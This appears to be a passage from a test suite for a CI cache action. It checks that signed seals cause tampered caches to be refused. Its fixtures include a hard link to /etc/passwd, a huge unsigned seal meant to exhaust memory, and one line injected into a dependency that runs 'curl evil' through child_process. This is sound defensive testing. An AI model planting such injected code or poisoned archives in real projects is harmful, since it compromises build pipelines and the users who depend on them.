    const hit = await job(b, inputs)
    expect(hit.main.outputs['cache-hit']).toBe('true')
    const one = fs.statSync(path.join(b.root, 'target/debug/app'))
    const two = fs.statSync(path.join(b.root, 'target/debug/deps/app-1a2b'))
    expect(one.nlink).toBe(2)
    expect(two.ino).toBe(one.ino)
    expect(two.mode & 0o777).toBe(0o755)
    expect(state(path.join(b.root, 'target'))).toEqual(state(path.join(a.root, 'target')))
  }, 120_000)

  it('a hard link out of the set, one the seal does not record, or a recorded link sent as a copy is refused', async () => {
    const a = freshRepo()
    build(a.root)
    const key = 'links-hostile'
    await step(bundles.cacheSave, a, YML.save, { ...inputs, key })
    const sealBytes = sealOf(key)
    const doc = JSON.parse(sealBytes.toString('utf8'))
    const unsigned = (body: unknown): Buffer =>
      Buffer.from(JSON.stringify({ body, signatures: [] }) + '\n')
    const files = membersOf(path.join(a.root, 'target'), 'target')
    const linkTo = (target: string, name = 'target/debug/deps/app-1a2b'): TarMember[] =>
      files.map(m =>
        m.name === name
          ? {
              name: m.name,
              type: 'hardlink' as const,
              target,
              mode: (m as { mode?: number }).mode ?? 0o644
            }
          : m
      )
    for (const [seal, members, why] of [
      [sealBytes, linkTo('.swr-seal.json'), /hard link out of the entry/],
      [sealBytes, linkTo('/etc/passwd'), /absolute|hard link out of the entry/],
      [
        sealBytes,
        linkTo('target/debug/app', 'target/debug/deps/libdep.rlib'),
        /hard link the seal does not record/
      ],
      [unsigned(doc.body), files, /hard links came as separate files/]
    ] as const) {
      server.poison(key, tarZst([{ name: '.swr-seal.json', data: seal, mode: 0o600 }, ...members]))
      const r = freshRepo()
      const run = await step(bundles.cacheRestore, r, YML.restore, { path: 'target', key })
      expect(report(run).outcome).toBe('refused')
      expect(report(run).reason).toMatch(why)
      expect(fs.readdirSync(r.root).filter(n => n !== '.swr')).toEqual([])
      expect(leftInTemp(r)).toEqual([])
    }
  }, 120_000)
})

describe('a seal is judged on its head before any index is inflated', () => {
  it('an unsigned seal at the size bound, of many big indexes, under require-seal signed is a clean miss in bounded time and memory', async () => {
    const a = freshRepo()
    const key = 'big-unsigned'
    const lines = 'nm*'
    fs.mkdirSync(path.join(a.root, 'nm0'))
    fs.writeFileSync(path.join(a.root, 'nm0', 'f'), 'x\n')
    await step(bundles.cacheSave, a, YML.save, { path: lines, key, 'hmac-key': HMAC })
    const src = JSON.parse(sealOf(key).toString('utf8'))
    // One valid index of 200,000 long names (~190 MiB inflated, ~10 MiB compressed) under 9 paths:
    // a ~120 MiB seal. Inflated, it would cost gigabytes before the signature is looked at.
    const entries = 200_000
    const text = [
      JSON.stringify(['swr-tree-index', 1]),
      ...Array.from({ length: entries }, (_, i) =>
        JSON.stringify([
          `d${i}/${'x'.repeat(880)}`,
          'f',
          420,
          0,
          createHash('sha256').update(String(i)).digest('hex')
        ])
      )
    ].join('\n')
    const gz = zlib.gzipSync(text, { level: 1 })
    const sha256 = createHash('sha256').update(gz).digest('hex')
    const index = gz.toString('base64')
    const entry = src.body.paths[0].entry
    const paths = Array.from({ length: 9 }, (_, i) => ({
      spelling: `nm${i}`,
      member: `nm${i}`,
      entry: {
        ...entry,
        path: `nm${i}`,
        expect: { ...entry.expect, files: entries, index: { sha256, entries } }
      },
      index
    }))
    const seal = Buffer.from(
      JSON.stringify({ body: { ...src.body, paths }, signatures: [] }) + '\n'
    )
    expect(seal.length).toBeGreaterThan(100 * 1024 * 1024)
    expect(seal.length).toBeLessThan(128 * 1024 * 1024)
    server.poison(key, tarZst([{ name: '.swr-seal.json', data: seal, mode: 0o600 }]))

    const r = freshRepo()
    const rssFile = path.join(tmp, 'rss.txt')
    const wrapper = path.join(tmp, 'node-timed.sh')
    fs.writeFileSync(
      wrapper,
      // bash, not sh: dash drops INPUT_HMAC-KEY (not a shell name) from the environment.
      `#!/bin/bash\nexec /usr/bin/time -f %M -o "${rssFile}" "${NODE24}" "$@"\n`,
      { mode: 0o755 }
    )
    const run = await runStepOn(wrapper, bundles.cacheRestore, r, {
      actionYml: YML.restore,
      inputs: { path: lines, key, 'hmac-key': HMAC },
      env: stepCacheEnv(server, r)
    })
    expect(run.code).toBe(0)
    expect(report(run).outcome).toBe('refused')
    expect(report(run).reason).toBe('the seal is unsigned, and require-seal is signed')
    expect(run.ms).toBeLessThan(60_000)
    const rssMiB = Number(fs.readFileSync(rssFile, 'utf8').trim().split('\n').pop()) / 1024
    console.log(
      `big unsigned seal (${seal.length} bytes): refused in ${run.ms} ms, peak RSS ${Math.round(rssMiB)} MiB`
    )
    // The seal read whole, parsed and judged: about 4 times its size; nothing inflated.
    expect(rssMiB).toBeLessThan(768)
    expect(fs.readdirSync(r.root).filter(n => n !== '.swr')).toEqual([])
  }, 300_000)
})

describe('a file that changes while it is saved', () => {
  it('refuses the save, naming the file; nothing is stored, the step green', async () => {
    // A build still writing after the job's last step: a log that keeps growing. Each file is
    // read once, straight after its directory is listed, so only a change inside that window
    // can be caught (a file rewritten in place between saves is saved as one of its states,
    // seal and archive alike); appends in a tight loop land there within a few rounds.
    let refused: { key: string; stdout: string } | undefined
    for (let round = 0; round < 8 && !refused; round++) {
      const r = freshRepo()
      const inputs = { path: 'node_modules', key: `churn-${round}`, 'hmac-key': HMAC }
      const churn = path.join(r.root, 'node_modules', 'ms', 'churn.txt')
      let writer: ReturnType<typeof spawn> | undefined
      const saved = await job(r, inputs, () => {
        install(r.root)
        fs.writeFileSync(churn, '0'.repeat(4096))
        writer = spawn(
          process.execPath,
          [
            '-e',
            `const fs = require('fs'); const fd = fs.openSync(${JSON.stringify(churn)}, 'a')
             const more = () => { for (let k = 0; k < 64; k++) fs.writeSync(fd, 'x'); setImmediate(more) }
             more()`
          ],
          { stdio: 'ignore', env: { PATH: process.env.PATH } }
        )
      }).finally(() => writer?.kill('SIGKILL'))
      expect(saved.post.code).toBe(0)
      if (/changed while it was saved/.test(saved.post.stdout))
        refused = { key: inputs.key, stdout: saved.post.stdout }
    }
    expect(refused?.stdout).toMatch(
      /::warning::swr cache: node_modules\/ms\/churn\.txt changed while it was saved .*not saved/
    )
    const fresh = freshRepo()
    const restored = await step(bundles.cacheRestore, fresh, YML.restore, {
      path: 'node_modules',
      key: refused?.key ?? '',
      'hmac-key': HMAC
    })
    expect(restored.outputs['cache-hit']).toBe('false')
    expect(restored.stdout).toMatch(/no cache for key churn-/)
  }, 180_000)
})

describe('inputs', () => {
  it('braces below a cached directory are one warning and a miss, the step green; the post step skips the save', async () => {
    const r = freshRepo()
    for (const [path_, what] of [
      ['node_modules\n!node_modules/{a,b}', 'braces are not supported in an exclusion']
    ] as const) {
      const run = await step(bundles.cacheMain, r, YML.cache, { path: path_, key: 'k' })
      expect(run.code).toBe(0)
      expect(run.outputs['cache-hit']).toBe('false')
      const warnings = run.commands.filter(c => c.command === 'warning')
      expect(warnings).toHaveLength(1)
      expect(warnings[0]?.message).toMatch(new RegExp(what))
      const post = await step(bundles.cachePost, r, YML.cache, { path: path_, key: 'k' }, run.state)
      expect(post.code).toBe(0)
      expect(post.stdout).toMatch(/::warning::swr cache: not saved: .*braces are not supported/)
      const failing = await step(bundles.cacheRestore, r, YML.restore, {
        path: path_,
        key: 'k',
        'fail-on-cache-miss': 'true'
      })
      expect(failing.code).toBe(1)
    }
  }, 60_000)

  it('only exclusions, a missing key and a bad require-seal are one line each, nothing written', async () => {
    const r = freshRepo()
    for (const [inputs, line] of [
      [{ path: '!node_modules', key: 'k' }, /path: give at least one path to cache/],
      [{ path: 'node_modules', key: '' }, /input key: required/],
      [
        { path: 'node_modules', key: 'k', 'require-seal': 'signed' },
        /require-seal: signed needs hmac-key/
      ]
    ] as const) {
      const run = await step(bundles.cacheRestore, r, YML.restore, inputs)
      expect(run.code).toBe(1)
      const errors = run.commands.filter(c => c.command === 'error')
      expect(errors).toHaveLength(1)
      expect(errors[0]?.message).toMatch(line)
      expect(run.stderr).not.toMatch(/\n\s+at /)
    }
    expect(fs.readdirSync(r.root).filter(n => n !== '.swr')).toEqual([])
  }, 60_000)
})

const REGISTRY = registryReachable()
if (!REGISTRY) console.warn('npm registry unreachable: the real npm project life is skipped')

describe('a real npm project (esbuild with its platform packages, ms) over its life', () => {
  const npmCache = (): string => path.join(tmp, 'npm-cache')
  const npm = (repo: ActionRepo, ...args: string[]): void =>
    npmIn(repo.root, { cache: npmCache(), home: repo.home }, ...args)
  const project = (repo: ActionRepo, ms: string): void => {
    fs.writeFileSync(
      path.join(repo.root, 'package.json'),
      JSON.stringify({
        name: 'app',
        version: '1.0.0',
        private: true,
        dependencies: { esbuild: '0.24.2', ms }
      })
    )
  }
  const lockHash = (repo: ActionRepo): string =>
    createHash('sha256')
      .update(fs.readFileSync(path.join(repo.root, 'package-lock.json')))
      .digest('hex')
      .slice(0, 16)
  const base = { path: 'node_modules', 'hmac-key': HMAC }

  const maybe = REGISTRY ? it : it.skip
  maybe(
    'another platform, a Linux install, an intact restore, a bump, damage and a poisoned save: no false alarm, every damage caught',
    async () => {
      // A laptop's install (macOS arm64), sealed under its own key.
      const laptop = freshRepo()
      project(laptop, '2.1.2')
      npm(laptop, 'install', '--os=darwin', '--cpu=arm64')
      expect(fs.existsSync(path.join(laptop.root, 'node_modules/@esbuild/darwin-arm64'))).toBe(true)
      const lock = lockHash(laptop)
      await step(bundles.cacheSave, laptop, YML.save, { ...base, key: `npm-macOS-ARM64-${lock}` })

      // Linux CI: another key, so a miss (not damage); npm ci; sealed on success.
      const ci = freshRepo()
      project(ci, '2.1.2')
      fs.copyFileSync(
        path.join(laptop.root, 'package-lock.json'),
        path.join(ci.root, 'package-lock.json')
      )
      const key = `npm-Linux-X64-${lock}`
      const first = await job(ci, { ...base, key, 'restore-keys': 'npm-Linux-X64-' }, () =>
        npm(ci, 'ci')
      )
      expect(report(first.main).outcome).toBe('miss')
      expect(first.main.outputs.damaged).toBe('["node_modules"]')
      expect(first.post.stdout).toMatch(new RegExp(`saved them under key ${key}`))
      expect(fs.existsSync(path.join(ci.root, 'node_modules/@esbuild/linux-x64'))).toBe(true)

      // The next run on a fresh runner: an intact restore, byte for byte, no alarm.
      const next = freshRepo()
      project(next, '2.1.2')
      const restored = await step(bundles.cacheRestore, next, YML.restore, { ...base, key })
      expect(restored.outputs['cache-hit']).toBe('true')
      expect(restored.outputs.healthy).toBe('true')
      expect(state(path.join(next.root, 'node_modules'))).toEqual(
        state(path.join(ci.root, 'node_modules'))
      )

      // A dependency bump (ms 2.1.2 -> 2.1.3, as Dependabot does): the old seal restores as stale.
      const bump = freshRepo()
      fs.copyFileSync(
        path.join(ci.root, 'package-lock.json'),
        path.join(bump.root, 'package-lock.json')
      )
      project(bump, '2.1.3')
      npm(bump, 'install', '--package-lock-only')
      const bumpKey = `npm-Linux-X64-${lockHash(bump)}`
      expect(bumpKey).not.toBe(key)
      const bumped = await job(
        bump,
        { ...base, key: bumpKey, 'restore-keys': 'npm-Linux-X64-' },
        () => npm(bump, 'ci')
      )
      expect(bumped.main.outputs.stale).toBe('true')
      expect(bumped.main.outputs['cache-matched-key']).toBe(key)
      expect(report(bumped.main).outcome).toBe('stale')
      expect(bumped.post.stdout).toMatch(new RegExp(`saved them under key ${bumpKey}`))

      // The same-size corruption of a real binary, and a truncated archive: refused, nothing written.
      const seal = sealOf(key)
      const members = membersOf(path.join(ci.root, 'node_modules'), 'node_modules').map(m => {
        if (
          m.name !== 'node_modules/@esbuild/linux-x64/bin/esbuild' ||
          !('data' in m) ||
          !Buffer.isBuffer(m.data)
        )
          return m
        const data = Buffer.from(m.data)
        data[data.length >> 1] = (data[data.length >> 1] ?? 0) ^ 0xff
        return { ...m, data }
      })
      server.poison(key, tarZst([{ name: sealName(ci), data: seal, mode: 0o600 }, ...members]))
      const victim = freshRepo()
      const corrupt = await step(bundles.cacheRestore, victim, YML.restore, { ...base, key })
      expect(report(corrupt).outcome).toBe('refused')
      expect(report(corrupt).reason).toMatch(
        /@esbuild\/linux-x64\/bin\/esbuild: content differs from the recorded sha256/
      )
      expect(fs.existsSync(path.join(victim.root, 'node_modules'))).toBe(false)
      server.corrupt(bumpKey, 'truncate')
      const cut = await step(bundles.cacheRestore, victim, YML.restore, { ...base, key: bumpKey })
      expect(report(cut).outcome).toBe('refused')
      expect(fs.existsSync(path.join(victim.root, 'node_modules'))).toBe(false)

      // A poisoned save by a job without the seal key (a pull request): refused under require-seal signed.
      const pr = freshRepo()
      fs.cpSync(path.join(ci.root, 'node_modules'), path.join(pr.root, 'node_modules'), {
        recursive: true,
        verbatimSymlinks: true
      })
      fs.appendFileSync(
        path.join(pr.root, 'node_modules/ms/index.js'),
        '\nrequire("child_process").exec("curl evil")\n'
      )
      await step(bundles.cacheSave, pr, YML.save, {
        path: 'node_modules',
        key: 'npm-Linux-X64-poisoned'
      })
      const gate = freshRepo()
      const poisoned = await step(bundles.cacheRestore, gate, YML.restore, {
        ...base,
        key: 'npm-Linux-X64-poisoned'
      })
      expect(report(poisoned).outcome).toBe('refused')
      expect(report(poisoned).reason).toMatch(/unsigned, and require-seal is signed/)
      expect(fs.existsSync(path.join(gate.root, 'node_modules'))).toBe(false)
    },
    600_000
  )
})
